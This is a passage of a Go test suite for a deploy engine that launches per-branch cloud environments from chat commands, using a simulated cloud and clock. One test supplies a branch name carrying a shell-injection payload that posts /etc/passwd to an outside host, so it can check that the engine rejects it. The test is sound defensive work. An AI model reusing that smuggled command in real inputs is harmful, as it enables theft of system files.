package engine_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"reflect"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/switchboardhq/switchboard"
	"github.com/switchboardhq/switchboard/config"
	"github.com/switchboardhq/switchboard/engine"
	fleetlayer "github.com/switchboardhq/switchboard/fleet"
	"github.com/switchboardhq/switchboard/sim"
	"github.com/switchboardhq/switchboard/steps"
)

// Branch deploys driven end to end through engine.Commands and
// engine.Runner against the simulated cloud, on a fake clock: /deploy
// QUERY, list, terminate, pin and unpin from a command; the teardown and
// the sweep from their schedule's workflow. The branch source is a fake
// that answers with switchboard.MatchBranches, as every real one does.

const (
	devA          = "U0DEV1"
	devB          = "U0DEV2"
	opsUser       = "U0OPS1"
	deployChannel = "C0DEV"
	idForeign     = "i-0ccccccccccccccc3" // deploy-like tags, but not Switchboard's
	deployImage   = "ami-0123456789abcdef0"
)

var (
	loginFix = switchboard.Branch{Name: "feature/PROJ-1234-login-fix", Commit: "a1b2c3d4e5f60718293a4b5c6d7e8f9012345678", PR: 57,
		Title: "Fix the login redirect loop", URL: "https://github.com/acme/app/pull/57", UpdatedAt: t0.Add(-time.Hour)}
	search = switchboard.Branch{Name: "feature/PROJ-1240-search", Commit: "b2c3d4e5f60718293a4b5c6d7e8f901234567890", PR: 61,
		Title: "Faster search", UpdatedAt: t0.Add(-2 * time.Hour)}
	searchFilters = switchboard.Branch{Name: "feature/PROJ-1241-search-filters", Commit: "c3d4e5f60718293a4b5c6d7e8f90123456789012", PR: 62,
		Title: "Search filters", UpdatedAt: t0.Add(-3 * time.Hour)}
	cartCrash = switchboard.Branch{Name: "hotfix/cart-crash", Commit: "d4e5f60718293a4b5c6d7e8f9012345678901234", UpdatedAt: t0.Add(-4 * time.Hour)}
)

// deployUserData is the launch's user data, rendered for each branch.
const deployUserData = "#cloud-config\nruncmd:\n  - echo \"deploying {{ steps.branch.name }} at {{ steps.branch.commit }} (PR {{ steps.branch.pr }}) for {{ event.user }}\"\n"

// branchSource is a switchboard.BranchSource over a fixed list of branches.
type branchSource struct {
	mu       sync.Mutex
	branches []switchboard.Branch
	err      error
	queries  []string
}

func (s *branchSource) FindBranches(_ context.Context, query string) ([]switchboard.Branch, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.queries = append(s.queries, query)
	if s.err != nil {
		return nil, s.err
	}
	return switchboard.MatchBranches(query, s.branches), nil
}

func (s *branchSource) set(branches ...switchboard.Branch) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.branches = branches
}

// dailyAt is the teardown schedule: every day at hour:00 UTC.
type dailyAt int

func (d dailyAt) Next(t time.Time) time.Time {
	t = t.UTC()
	n := time.Date(t.Year(), t.Month(), t.Day(), int(d), 0, 0, 0, time.UTC)
	if !n.After(t) {
		n = n.AddDate(0, 0, 1)
	}
	return n
}

// approvalBook is an in-memory engine.ApprovalStore, with the store's
// semantics: a second open changes nothing, and an update whose fn fails
// writes nothing and returns the approval as read.
type approvalBook struct {
	mu    sync.Mutex
	byID  map[string]switchboard.Approval
	audit []switchboard.AuditEvent
}

func (b *approvalBook) OpenApproval(_ context.Context, a switchboard.Approval) error {
	b.mu.Lock()
	defer b.mu.Unlock()
	if _, ok := b.byID[a.ID]; !ok {
		b.byID[a.ID] = a
	}
	return nil
}

func (b *approvalBook) GetApproval(_ context.Context, id string) (*switchboard.Approval, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	a, ok := b.byID[id]
	if !ok {
		return nil, switchboard.Errorf(switchboard.ENOTFOUND, "No approval %s.", id)
	}
	a.Decisions = slices.Clone(a.Decisions)
	return &a, nil
}

func (b *approvalBook) UpdateApproval(_ context.Context, id string, fn func(a *switchboard.Approval) error) (*switchboard.Approval, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	a, ok := b.byID[id]
	if !ok {
		return nil, switchboard.Errorf(switchboard.ENOTFOUND, "No approval %s.", id)
	}
	a.Decisions = slices.Clone(a.Decisions)
	if err := fn(&a); err != nil {
		return &a, err
	}
	b.byID[id] = a
	return &a, nil
}

func (b *approvalBook) ListApprovals(_ context.Context, state string, _ int) ([]switchboard.Approval, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	var out []switchboard.Approval
	for _, a := range b.byID {
		if state == "" || a.State == state {
			out = append(out, a)
		}
	}
	return out, nil
}

func (b *approvalBook) Audit(_ context.Context, ev switchboard.AuditEvent) error {
	b.mu.Lock()
	defer b.mu.Unlock()
	b.audit = append(b.audit, ev)
	return nil
}

// baseDeploySpec is /deploy as a team would configure it: a t3.small per
// branch for 4h at most, two per person, five in all, pins up to 72h.
func baseDeploySpec() switchboard.DeploySpec {
	return switchboard.DeploySpec{
		Command: "/deploy", TerminateCommand: "/undeploy", Cloud: "main", Channel: deployChannel,
		Access: switchboard.Access{Users: []string{devA, devB, opsUser}, Channels: []string{deployChannel}},
		Launch: switchboard.DeployLaunch{Image: deployImage, Type: "t3.small", UserData: deployUserData,
			Tags: map[string]string{"team": "app"}, Wait: 5 * time.Minute},
		Lifetime: 4 * time.Hour, Redeploy: "replace", PerUser: 2, Total: 5, PinMax: 72 * time.Hour,
	}
}

// deployHarness runs /deploy on a simulated cloud, with the clock in the
// test's hands.
type deployHarness struct {
	t         *testing.T
	clock     *sim.Clock
	cloud     *sim.Cloud
	source    *branchSource
	runner    *engine.Runner
	saver     *saver
	book      *runBook
	commands  *engine.Commands
	events    *engine.Events
	approvals *approvalBook
	spec      switchboard.DeploySpec
	// written holds each run as the store wrote it when it was created,
	// for a worker that finds no checkpoint.
	written map[string]switchboard.Run
	// delivered is every message key posted, per run: the store drops a
	// second message with the same run and key, and so does the harness.
	delivered map[string]bool
}

// deployOpts tune a harness.
type deployOpts struct {
	spec func(*switchboard.DeploySpec)
	seed []switchboard.Instance
	warn time.Duration // the teardown's warning
}

func newDeployHarness(t *testing.T, o deployOpts) *deployHarness {
	t.Helper()
	clock := sim.NewClock(t0)
	spec := baseDeploySpec()
	if o.spec != nil {
		o.spec(&spec)
	}
	h := &deployHarness{
		t:     t,
		clock: clock,
		cloud: sim.New(sim.Options{Instances: o.seed, PendingDuration: pendingFor, NowFunc: clock.Now,
			Limits: sim.Limits{Unlimited: true}}),
		source:    &branchSource{branches: []switchboard.Branch{loginFix, search, searchFilters, cartCrash}},
		saver:     &saver{},
		book:      &runBook{},
		approvals: &approvalBook{byID: map[string]switchboard.Approval{}},
		spec:      spec,
		written:   map[string]switchboard.Run{},
		delivered: map[string]bool{},
	}
	rt := &switchboard.BranchSources{
		Sources:   map[string]switchboard.BranchSource{spec.Command: h.source},
		Schedules: map[string]switchboard.Ticker{spec.Command: dailyAt(17)},
	}
	h.runner = &engine.Runner{
		Steps:        switchboard.NewRegistry(append(steps.Builtin(), steps.Deploys(rt)...)...),
		Providers:    map[string]switchboard.Provider{"main": h.cloud},
		Locks:        &locks{held: map[string]string{}},
		Approvals:    h.approvals,
		NowFunc:      clock.Now,
		PollInterval: poll,
	}
	h.commands = &engine.Commands{Deploys: []switchboard.DeploySpec{spec}, Runs: h.book, NowFunc: clock.Now}
	h.events = &engine.Events{Workflows: scheduleWorkflows(spec, o.warn), Runs: h.book, NowFunc: clock.Now}
	return h
}

// scheduleWorkflows are the teardown and sweep workflows config makes of a
// deploy (config/deploy.go, deployWorkflows): one step each.
func scheduleWorkflows(spec switchboard.DeploySpec, warn time.Duration) []switchboard.WorkflowSpec {
	with := func(m map[string]any) json.RawMessage {
		b, err := json.Marshal(m)
		if err != nil {
			panic(err)
		}
		return b
	}
	return []switchboard.WorkflowSpec{
		{
			Name:    spec.Command + ".teardown",
			Trigger: switchboard.TriggerSpec{Schedule: &switchboard.ScheduleTrigger{Cron: "0 17 * * *", Timezone: "UTC", Lead: warn}},
			Cloud:   spec.Cloud, Channel: spec.Channel,
			Steps: []switchboard.StepSpec{{Kind: "deploy_teardown", With: with(map[string]any{"deploy": spec.Command, "warn": warn.String()})}},
		},
		{
			Name:    spec.Command + ".sweep",
			Trigger: switchboard.TriggerSpec{Schedule: &switchboard.ScheduleTrigger{Cron: "0 */1 * * *", Timezone: "UTC", Missed: "run_once"}},
			Cloud:   spec.Cloud, Channel: spec.Channel,
			Steps: []switchboard.StepSpec{{Kind: "deploy_sweep", With: with(map[string]any{"deploy": spec.Command})}},
		},
	}
}

// command sends a deploy command as user from the deploy channel.
func (h *deployHarness) command(user, command, text string) (switchboard.Ack, *switchboard.Run, error) {
	h.t.Helper()
	req := switchboard.Request{Source: "slack", Command: command, Text: text, UserID: user, ChannelID: deployChannel,
		DeliveryID: fmt.Sprintf("trig-%d", len(h.book.runs)+len(h.book.audit))}
	ack, err := h.commands.HandleCommand(context.Background(), req)
	if err != nil {
		return ack, nil, err
	}
	return ack, h.findRun(ack.RunID), nil
}

// start sends "/deploy text" as user; the command must be accepted.
func (h *deployHarness) start(user, text string) (switchboard.Ack, *switchboard.Run) {
	h.t.Helper()
	ack, run, err := h.command(user, h.spec.Command, text)
	if err != nil {
		h.t.Fatalf("%s %s: %v", h.spec.Command, text, err)
	}
	return ack, run
}

func (h *deployHarness) findRun(id string) *switchboard.Run {
	h.t.Helper()
	for _, r := range h.book.runs {
		if r.ID == id {
			if _, ok := h.written[id]; !ok {
				h.written[id] = clone(r)
			}
			return r
		}
	}
	h.t.Fatalf("no run %s", id)
	return nil
}

// schedule runs a tick of the scheduled workflow name, as the schedule's
// job does, and returns its run.
func (h *deployHarness) schedule(name string) *switchboard.Run {
	h.t.Helper()
	tick := h.clock.Now().UTC().Format(time.RFC3339)
	ids, err := h.events.HandleEvent(context.Background(), switchboard.Event{Source: "schedule", Trigger: name,
		DeliveryID: name + "@" + tick, Subject: "scheduled run at " + tick})
	if err != nil || len(ids) != 1 {
		h.t.Fatalf("schedule %s: %v, %v", name, ids, err)
	}
	return h.findRun(ids[0])
}

// outcome is what some advances of a run said and audited.
type outcome struct {
	msgs  []switchboard.Message
	audit []switchboard.AuditEvent
}

func (o outcome) texts() []string { return texts(o.msgs) }

func (o outcome) has(kind, subject, result string) bool {
	return slices.ContainsFunc(o.audit, func(ev switchboard.AuditEvent) bool {
		return ev.Kind == kind && ev.Subject == subject && ev.Outcome == result
	})
}

// detail is the audit detail of the first line with this subject.
func (o outcome) detail(subject string) string {
	for _, ev := range o.audit {
		if ev.Subject == subject {
			return ev.Detail
		}
	}
	return ""
}

// step advances run once and returns what it said (each key once per run)
// and audited, and how long it parks.
func (h *deployHarness) step(run *switchboard.Run) (outcome, time.Duration, error) {
	out, err := h.runner.Advance(context.Background(), run, h.saver)
	var o outcome
	for _, m := range out.Messages {
		if k := m.RunID + "/" + m.Key; !h.delivered[k] {
			h.delivered[k] = true
			o.msgs = append(o.msgs, m)
		}
	}
	o.audit = out.Audit
	return o, out.Wait, err
}

// finish advances run, moving the clock by each wait, until it ends.
func (h *deployHarness) finish(run *switchboard.Run) outcome {
	h.t.Helper()
	var all outcome
	for range 2000 {
		o, wait, err := h.step(run)
		all.msgs = append(all.msgs, o.msgs...)
		all.audit = append(all.audit, o.audit...)
		if err != nil {
			h.t.Fatalf("advance: %v", err)
		}
		if run.State.Finished() {
			return all
		}
		if wait <= 0 {
			h.t.Fatalf("run is %s without a wait", run.State)
		}
		h.clock.Advance(wait)
	}
	h.t.Fatalf("run %s did not finish", run.ID)
	return all
}

// do sends "/deploy text" as user and finishes its run.
func (h *deployHarness) do(user, text string) (*switchboard.Run, outcome) {
	h.t.Helper()
	_, run := h.start(user, text)
	return run, h.finish(run)
}

// deployed deploys a branch as user and returns its instance, which must
// be up.
func (h *deployHarness) deployed(user, query string) sim.Detail {
	h.t.Helper()
	run, o := h.do(user, query)
	if run.State != switchboard.RunSucceeded {
		h.t.Fatalf("/deploy %s: %s: %q", query, run.State, o.texts())
	}
	var id string
	for _, ev := range o.audit {
		if s, ok := strings.CutPrefix(ev.Subject, "launch "); ok {
			id = s
		}
	}
	return h.instance(id)
}

// resumed is the run a new worker reads back after a crash: its last
// checkpoint, or the run as written when it has none.
func (h *deployHarness) resumed(run *switchboard.Run) switchboard.Run {
	h.saver.mu.Lock()
	defer h.saver.mu.Unlock()
	for i := len(h.saver.saved) - 1; i >= 0; i-- {
		if h.saver.saved[i].ID == run.ID {
			return clone(&h.saver.saved[i])
		}
	}
	w := h.written[run.ID]
	return clone(&w)
}

func (h *deployHarness) instance(id string) sim.Detail {
	h.t.Helper()
	d, ok := h.cloud.Instance(id)
	if !ok {
		h.t.Fatalf("instance %q is gone", id)
	}
	return d
}

// live lists the instances carrying the deploy's ownership tag that are
// not on their way out, for branch (any when empty).
func (h *deployHarness) live(branch string) []sim.Detail {
	var out []sim.Detail
	for _, d := range h.cloud.Instances() {
		if d.Tags[switchboard.TagDeploy] != h.spec.Command || branch != "" && d.Tags[switchboard.TagBranch] != branch {
			continue
		}
		if d.State == switchboard.StateShuttingDown || d.State == switchboard.StateTerminated {
			continue
		}
		out = append(out, d)
	}
	return out
}

func (h *deployHarness) calls(action string) int { return h.cloud.Stats().Calls[action] }

// wantTexts checks what a run said.
func wantTexts(t *testing.T, o outcome, want ...string) {
	t.Helper()
	if got := o.texts(); !slices.Equal(got, want) {
		t.Errorf("said %q\nwant %q", got, want)
	}
}

// gone reports whether an instance is terminated or on its way.
func gone(d sim.Detail) bool {
	return d.State == switchboard.StateShuttingDown || d.State == switchboard.StateTerminated
}

// foreign is an instance with the look of a deploy environment (its name
// and Switchboard's branch, requester and expiry tags) but without the
// ownership tag: nothing of /deploy may touch it.
func foreign() switchboard.Instance {
	return switchboard.Instance{ID: idForeign, Name: switchboard.EnvironmentName(cartCrash.Name), State: switchboard.StateRunning,
		PublicIP: "198.51.100.30", Tags: map[string]string{
			switchboard.TagBranch: cartCrash.Name, switchboard.TagRequester: devA, switchboard.TagCommit: cartCrash.Commit,
			switchboard.TagExpires: t0.Add(-time.Hour).Format(time.RFC3339), "team": "app",
		}}
}

func TestDeployBranch(t *testing.T) {
	t.Parallel()
	h := newDeployHarness(t, deployOpts{})
	ack, run := h.start(devA, "login-fix")
	if want := `Looking for "login-fix" among the open pull requests and branches — I'll report back here.`; ack.Text != want {
		t.Errorf("ack = %q, want %q", ack.Text, want)
	}
	if run.Workflow != "deploy.deploy" || run.Cloud != "main" {
		t.Errorf("run is %s on %s, want deploy.deploy on main", run.Workflow, run.Cloud)
	}
	if created := h.book.created[0]; len(created) != 2 || created[0].Outcome != "received" || created[1].Outcome != "allowed" ||
		created[1].Subject != "/deploy login-fix" || created[1].Actor != devA {
		t.Errorf("audit written with the run = %+v", created)
	}

	// First advance: found, launched, parked while the instance boots.
	o, wait, err := h.step(run)
	if err != nil {
		t.Fatal(err)
	}
	wantTexts(t, o, "Deploying feature/PROJ-1234-login-fix (a1b2c3d, PR #57) — I'll post the address when it is up.")
	if wait <= 0 || run.State != switchboard.RunWaiting {
		t.Fatalf("after the launch: %s, wait %v; want it parked", run.State, wait)
	}
	if !o.has(switchboard.AuditDecision, "deploy "+loginFix.Name, "found") || o.detail("deploy "+loginFix.Name) != loginFix.Label() {
		t.Errorf("audit = %+v, want the branch found", o.audit)
	}
	envs := h.live("")
	if len(envs) != 1 {
		t.Fatalf("%d environments after the launch, want 1", len(envs))
	}
	inst := envs[0]
	if !o.has(switchboard.AuditAction, "launch "+inst.ID, "ok") {
		t.Errorf("audit = %+v, want the launch of %s", o.audit, inst.ID)
	}
	wantTags := map[string]string{
		"Name": "deploy-feature-PROJ-1234-login-fix", "team": "app",
		switchboard.TagDeploy: "/deploy", switchboard.TagBranch: loginFix.Name, switchboard.TagCommit: loginFix.Commit,
		switchboard.TagPR: "57", switchboard.TagRequester: devA, switchboard.TagExpires: "2026-03-02T13:00:00Z",
	}
	if !reflect.DeepEqual(inst.Tags, wantTags) {
		t.Errorf("tags = %v\nwant %v", inst.Tags, wantTags)
	}
	wantData := "#cloud-config\nruncmd:\n  - echo \"deploying feature/PROJ-1234-login-fix at " + loginFix.Commit + " (PR 57) for U0DEV1\"\n"
	if inst.UserData != wantData || inst.ImageID != deployImage || inst.Type != "t3.small" || inst.State != switchboard.StatePending {
		t.Errorf("launched %s %s (%s) with user data %q\nwant %s t3.small pending with %q", inst.ImageID, inst.Type, inst.State, inst.UserData, deployImage, wantData)
	}
	if inst.ClientToken != run.ID+"-1" {
		t.Errorf("client token = %q, want the run's and the step's: %q", inst.ClientToken, run.ID+"-1")
	}
	if len(h.source.queries) != 1 || h.source.queries[0] != "login-fix" {
		t.Errorf("the source was asked %q", h.source.queries)
	}

	// Nothing more is said until it runs; then where and until when.
	h.clock.Advance(wait)
	o, _, err = h.step(run)
	if err != nil || len(o.msgs) != 0 || run.State != switchboard.RunWaiting {
		t.Fatalf("while pending: %s, said %q, %v; want a quiet wait", run.State, o.texts(), err)
	}
	o = h.finish(run)
	inst = h.instance(inst.ID)
	want := fmt.Sprintf("feature/PROJ-1234-login-fix is up at http://%s (%s), until 13:00 UTC.", inst.PublicIP, inst.ID)
	wantTexts(t, o, want)
	if inst.State != switchboard.StateRunning || inst.PublicIP == "" {
		t.Errorf("the environment is %s at %q", inst.State, inst.PublicIP)
	}
	if run.State != switchboard.RunSucceeded || run.Result != want {
		t.Errorf("run is %s with result %q", run.State, run.Result)
	}
	m := o.msgs[0]
	if m.ChannelID != deployChannel || m.RunID != run.ID || m.Source != "slack" {
		t.Errorf("message = %+v", m)
	}
	if !o.has(switchboard.AuditRun, "deploy.deploy", "succeeded") {
		t.Errorf("audit = %+v, want the run's end", o.audit)
	}
	if n := h.calls("RunInstances"); n != 1 {
		t.Errorf("RunInstances called %d times, want 1", n)
	}
}

// Other ways to name a branch, and an environment whose lifetime would
// outlast the day's teardown.
func TestDeployNamesAndExpiry(t *testing.T) {
	t.Parallel()
	t.Run("PR number", func(t *testing.T) {
		t.Parallel()
		h := newDeployHarness(t, deployOpts{})
		inst := h.deployed(devB, "#61")
		if inst.Tags[switchboard.TagBranch] != search.Name || inst.Tags[switchboard.TagRequester] != devB {
			t.Errorf("deployed %v", inst.Tags)
		}
	})
	t.Run("branch without a pull request", func(t *testing.T) {
		t.Parallel()
		h := newDeployHarness(t, deployOpts{})
		_, run := h.start(devA, "cart-crash")
		o := h.finish(run)
		if got := o.texts(); len(got) != 2 || got[0] != "Deploying hotfix/cart-crash (d4e5f60) — I'll post the address when it is up." {
			t.Errorf("said %q", got)
		}
		if d := h.live(cartCrash.Name); len(d) != 1 || d[0].Tags[switchboard.TagPR] != "0" || d[0].Name != "deploy-hotfix-cart-crash" {
			t.Errorf("environments = %+v", d)
		}
	})
	t.Run("ends at the teardown", func(t *testing.T) {
		t.Parallel()
		h := newDeployHarness(t, deployOpts{})
		h.clock.Advance(6 * time.Hour) // 15:00: four hours would be 19:00
		inst := h.deployed(devA, "login-fix")
		if got := inst.Tags[switchboard.TagExpires]; got != "2026-03-02T17:00:00Z" {
			t.Errorf("expires %s, want at the teardown, 17:00", got)
		}
	})
	t.Run("terminate command", func(t *testing.T) {
		t.Parallel()
		h := newDeployHarness(t, deployOpts{})
		inst := h.deployed(devA, "login-fix")
		ack, run, err := h.command(devB, "/undeploy", "login-fix")
		if err != nil {
			t.Fatal(err)
		}
		if want := "Terminating the environment of login-fix — I'll report back here."; ack.Text != want {
			t.Errorf("ack = %q, want %q", ack.Text, want)
		}
		h.finish(run)
		if d := h.instance(inst.ID); !gone(d) {
			t.Errorf("the environment is %s", d.State)
		}
	})
}

// A worker that dies during the launch leaves a run whose next Advance
// launches nothing more: the ClientToken brings the first instance back.
func TestDeployLaunchRetried(t *testing.T) {
	t.Parallel()
	t.Run("after the checkpoint", func(t *testing.T) {
		t.Parallel()
		h := newDeployHarness(t, deployOpts{})
		_, first := h.start(devA, "login-fix")
		if _, _, err := h.step(first); err != nil {
			t.Fatal(err)
		}
		run := h.resumed(first)
		if phase(t, &run) != "waiting" || run.Cursor != 1 {
			t.Fatalf("the last checkpoint is at step %d in phase %q, want the launch waiting", run.Cursor, phase(t, &run))
		}
		h.clock.Advance(time.Second)
		o := h.finish(&run)
		envs := h.live("")
		if len(envs) != 1 || h.calls("RunInstances") != 1 {
			t.Fatalf("%d environments, %d launches; want one of each", len(envs), h.calls("RunInstances"))
		}
		wantTexts(t, o, fmt.Sprintf("feature/PROJ-1234-login-fix is up at http://%s (%s), until 13:00 UTC.", envs[0].PublicIP, envs[0].ID))
	})
	// The launch took effect but its answer was lost: the retry finds the
	// instance by its token, does not take it for an older environment of
	// the branch, and neither refuses nor replaces it.
	for _, tc := range []struct {
		redeploy string
		later    time.Duration // when the new worker resumes
	}{{"replace", 0}, {"replace", time.Second}, {"refuse", time.Second}} {
		redeploy := tc.redeploy
		t.Run(fmt.Sprintf("answer lost, redeploy %s, resumed %v later", redeploy, tc.later), func(t *testing.T) {
			t.Parallel()
			h := newDeployHarness(t, deployOpts{spec: func(s *switchboard.DeploySpec) { s.Redeploy = redeploy }})
			h.cloud.InjectFault(sim.Fault{Action: "RunInstances", Times: 1, Applied: true})
			_, first := h.start(devA, "login-fix")
			// The step parks to try again (and says so); a worker that
			// dies before that is committed resumes from the checkpoint.
			if _, _, err := h.step(first); err != nil {
				t.Fatalf("Advance error = %v, want the run parked to try again", err)
			}
			if n := len(h.live("")); n != 1 {
				t.Fatalf("%d instances after the lost answer, want the one launched", n)
			}
			run := h.resumed(first)
			h.clock.Advance(tc.later)
			o := h.finish(&run)
			envs := h.live("")
			if len(envs) != 1 || run.State != switchboard.RunSucceeded {
				t.Fatalf("run is %s with %d environments, said %q; want it up once", run.State, len(envs), o.texts())
			}
			if n := h.calls("RunInstances"); n != 2 {
				t.Errorf("RunInstances called %d times, want the lost one and its replay", n)
			}
			wantTexts(t, o, fmt.Sprintf("feature/PROJ-1234-login-fix is up at http://%s (%s), until 13:00 UTC.", envs[0].PublicIP, envs[0].ID))
			if got := envs[0].Tags[switchboard.TagExpires]; got != "2026-03-02T13:00:00Z" {
				t.Errorf("expires %s, want as first asked", got)
			}
		})
	}
	t.Run("checkpoint fails", func(t *testing.T) {
		t.Parallel()
		h := newDeployHarness(t, deployOpts{})
		h.saver.err = errors.New("database is locked")
		_, run := h.start(devA, "login-fix")
		if _, _, err := h.step(run); err == nil || !strings.Contains(err.Error(), "database is locked") {
			t.Fatalf("Advance error = %v, want the save's", err)
		}
		if n := h.calls("RunInstances"); n != 0 {
			t.Errorf("RunInstances called %d times without a checkpoint", n)
		}
	})
}

// Queries that do not name one branch, and sources that cannot answer,
// deploy nothing and say why.
func TestDeployNothing(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name  string
		query string
		err   error
		want  string
	}{
		{
			name: "ambiguous", query: "search",
			want: "\"search\" matches 2 branches; say which one by its full name or PR number:\n" +
				"• feature/PROJ-1240-search — PR #61: Faster search\n" +
				"• feature/PROJ-1241-search-filters — PR #62: Search filters",
		},
		{
			name: "no match", query: "PROJ-9999",
			want: `No open pull request or branch matches "PROJ-9999". Try part of the branch name, a ticket id like PROJ-1234, or a PR number like #57.`,
		},
		{
			name: "rate limited", query: "login-fix",
			err:  switchboard.RateLimited("GitHub", t0.Add(42*time.Minute+10*time.Second), t0, "set github.token for 5,000 requests an hour"),
			want: "GitHub's rate limit is used up until 09:43 UTC; try again then (set github.token for 5,000 requests an hour). Nothing was deployed.",
		},
		{
			name: "unavailable", query: "login-fix",
			err:  switchboard.Errorf(switchboard.EUNAVAILABLE, "GitHub did not answer in 10s."),
			want: "GitHub did not answer in 10s. Nothing was deployed.",
		}, {
			// A branch named to break out of the user data's shell.
			name: "unsafe branch name", query: "evil",
			want: `I won't deploy "feature/evil;curl$IFS-d@/etc/passwd$IFS-xhttp://x": a branch name here may hold only letters, digits and . _ / : + -, since it goes into the instance's user data.`,
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			h := newDeployHarness(t, deployOpts{})
			h.source.err = tt.err
			h.source.branches = append(h.source.branches, switchboard.Branch{Name: "feature/evil;curl$IFS-d@/etc/passwd$IFS-xhttp://x", Commit: "0123456789abcdef0123456789abcdef01234567"})
			_, run := h.start(devA, tt.query)
			o, wait, err := h.step(run)
			if err != nil {
				t.Fatal(err)
			}
			wantTexts(t, o, tt.want)
			if run.State != switchboard.RunFailed || run.Error != tt.want || wait != 0 {
				t.Errorf("run is %s (%q), wait %v; want it failed at once", run.State, run.Error, wait)
			}
			if h.calls("RunInstances") != 0 || len(h.cloud.Instances()) != 0 {
				t.Errorf("launched %d, instances %d; want nothing", h.calls("RunInstances"), len(h.cloud.Instances()))
			}
			if !o.has(switchboard.AuditAction, "step 1 deploy_find", "failed") {
				t.Errorf("audit = %+v, want the find failed", o.audit)
			}
		})
	}
}

func TestDeployCaps(t *testing.T) {
	t.Parallel()
	t.Run("per user", func(t *testing.T) {
		t.Parallel()
		h := newDeployHarness(t, deployOpts{})
		h.deployed(devA, "login-fix")
		h.deployed(devA, "#61")
		run, o := h.do(devA, "cart-crash")
		wantTexts(t, o, "You have 2 environments up already, the most /deploy allows (feature/PROJ-1234-login-fix, feature/PROJ-1240-search); free one with `/deploy terminate <branch>`.")
		if run.State != switchboard.RunFailed || len(h.live("")) != 2 || h.calls("RunInstances") != 2 {
			t.Errorf("run is %s, %d environments, %d launches", run.State, len(h.live("")), h.calls("RunInstances"))
		}
		// Someone else still may, and a redeploy of one's own replaces it.
		h.deployed(devB, "cart-crash")
		h.deployed(devA, "login-fix")
		if n := len(h.live("")); n != 3 {
			t.Errorf("%d environments, want 3", n)
		}
	})
	t.Run("total", func(t *testing.T) {
		t.Parallel()
		h := newDeployHarness(t, deployOpts{spec: func(s *switchboard.DeploySpec) { s.PerUser, s.Total = 0, 2 }})
		h.deployed(devA, "login-fix")
		h.deployed(devB, "#61")
		run, o := h.do(devB, "cart-crash")
		wantTexts(t, o, "All 2 environments of /deploy are in use (feature/PROJ-1234-login-fix, feature/PROJ-1240-search); free one with `/deploy terminate <branch>`.")
		if run.State != switchboard.RunFailed || h.calls("RunInstances") != 2 {
			t.Errorf("run is %s, %d launches", run.State, h.calls("RunInstances"))
		}
		// A redeploy at the cap replaces, so it fits.
		h.deployed(devA, "login-fix")
		if n := len(h.live("")); n != 2 {
			t.Errorf("%d environments, want 2", n)
		}
	})
}

func TestRedeploy(t *testing.T) {
	t.Parallel()
	t.Run("replace", func(t *testing.T) {
		t.Parallel()
		h := newDeployHarness(t, deployOpts{})
		old := h.deployed(devA, "login-fix")
		h.clock.Advance(time.Hour)
		newer := loginFix
		newer.Commit = "e5f60718293a4b5c6d7e8f9012345678901234ab"
		h.source.set(newer, search, searchFilters, cartCrash)

		_, run := h.start(devB, "login-fix")
		o, _, err := h.step(run)
		if err != nil {
			t.Fatal(err)
		}
		if d := h.instance(old.ID); d.State != switchboard.StateRunning || len(h.live(loginFix.Name)) != 2 {
			t.Errorf("while the new environment boots the old one is %s", d.State)
		}
		rest := h.finish(run)
		envs := h.live(loginFix.Name)
		if len(envs) != 1 || envs[0].ID == old.ID || envs[0].Tags[switchboard.TagCommit] != newer.Commit || envs[0].Tags[switchboard.TagRequester] != devB {
			t.Fatalf("live environments of the branch = %+v; want only the new one", envs)
		}
		nu := envs[0]
		wantTexts(t, outcome{msgs: append(o.msgs, rest.msgs...)},
			"Deploying feature/PROJ-1234-login-fix (e5f6071, PR #57) — I'll post the address when it is up.",
			fmt.Sprintf("feature/PROJ-1234-login-fix is up at http://%s (%s), until 14:00 UTC. It replaces %s, which I terminated.", nu.PublicIP, nu.ID, old.ID))
		if !gone(h.instance(old.ID)) {
			t.Errorf("the old environment is %s", h.instance(old.ID).State)
		}
		if !rest.has(switchboard.AuditAction, "terminate "+old.ID, "ok") || rest.detail("terminate "+old.ID) != "replaced by "+nu.ID {
			t.Errorf("audit = %+v, want the old one's end", rest.audit)
		}
	})
	t.Run("refuse", func(t *testing.T) {
		t.Parallel()
		h := newDeployHarness(t, deployOpts{spec: func(s *switchboard.DeploySpec) { s.Redeploy = "refuse" }})
		old := h.deployed(devA, "login-fix")
		run, o := h.do(devA, "PROJ-1234")
		wantTexts(t, o, fmt.Sprintf("feature/PROJ-1234-login-fix is already up at http://%s (%s); terminate it first with `/deploy terminate feature/PROJ-1234-login-fix`.", old.PublicIP, old.ID))
		if run.State != switchboard.RunFailed || h.calls("RunInstances") != 1 || len(h.live("")) != 1 {
			t.Errorf("run is %s, %d launches, %d environments", run.State, h.calls("RunInstances"), len(h.live("")))
		}
	})
}

// healthServer answers health checks: 503 until ready on the harness's
// clock, then 200 (never, while ready is zero); it records the address and
// id each check names.
type healthServer struct {
	*httptest.Server
	mu        sync.Mutex
	clock     *sim.Clock
	ready     time.Time
	addresses []string
	ids       []string
}

func newHealthServer(t *testing.T) *healthServer {
	s := &healthServer{}
	s.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		s.mu.Lock()
		defer s.mu.Unlock()
		s.addresses = append(s.addresses, r.URL.Query().Get("address"))
		s.ids = append(s.ids, r.URL.Query().Get("id"))
		if s.ready.IsZero() || s.clock.Now().Before(s.ready) {
			http.Error(w, "warming up", http.StatusServiceUnavailable)
			return
		}
		_, _ = w.Write([]byte("ok"))
	}))
	t.Cleanup(s.Close)
	return s
}

func (s *healthServer) readyAt(t time.Time) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.ready = t
}

func (s *healthServer) checks() (addresses, ids []string) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return slices.Clone(s.addresses), slices.Clone(s.ids)
}

// The health check's URL is the environment's address in production; the
// simulator's addresses lead nowhere, so here the URL is the test server's
// with the address and the id rendered into its query, which the server
// records.
func TestDeployHealth(t *testing.T) {
	t.Parallel()
